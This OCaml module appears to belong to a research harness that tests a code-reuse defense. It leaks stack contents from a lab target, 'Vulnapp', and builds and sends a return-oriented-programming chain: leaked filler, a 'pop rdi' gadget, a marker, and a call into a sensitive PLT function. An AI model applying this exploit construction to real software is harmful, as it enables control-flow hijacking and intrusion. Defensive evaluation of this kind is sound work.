open R2c_machine

(* The exploit bytes: benign filler rebuilt from the leak, then
   [pop rdi; marker; sensitive@plt]. Exposed for the MVEE experiment. *)
let craft ~(reference : Reference.t) ~values =
  match reference.pop_rdi with
  | None -> None
  | Some gadget ->
      let filler =
        Payload.slice ~values ~from_off:reference.buf_off ~upto_off:reference.ra_off
      in
      Some
        (filler ^ Payload.le64 gadget ^ Payload.le64 R2c_workloads.Vulnapp.marker
        ^ Payload.le64 reference.sensitive_plt)

let run ~reference:(r : Reference.t) ~target:t =
  match Oracle.to_serving t with
  | Error note -> Report.of_target ~notes:[ note ] t
  | Ok () -> (
      let values = Oracle.leak_at t ~addr:(Oracle.rsp t) ~words:((r.ra_off / 8) + 8) in
      match craft ~reference:r ~values with
      | None -> Report.of_target ~notes:[ "reference binary has no pop rdi gadget" ] t
      | Some payload ->
          Oracle.send t payload;
          let (_ : Process.outcome) = Oracle.resume_to_end t in
          Report.of_target t)
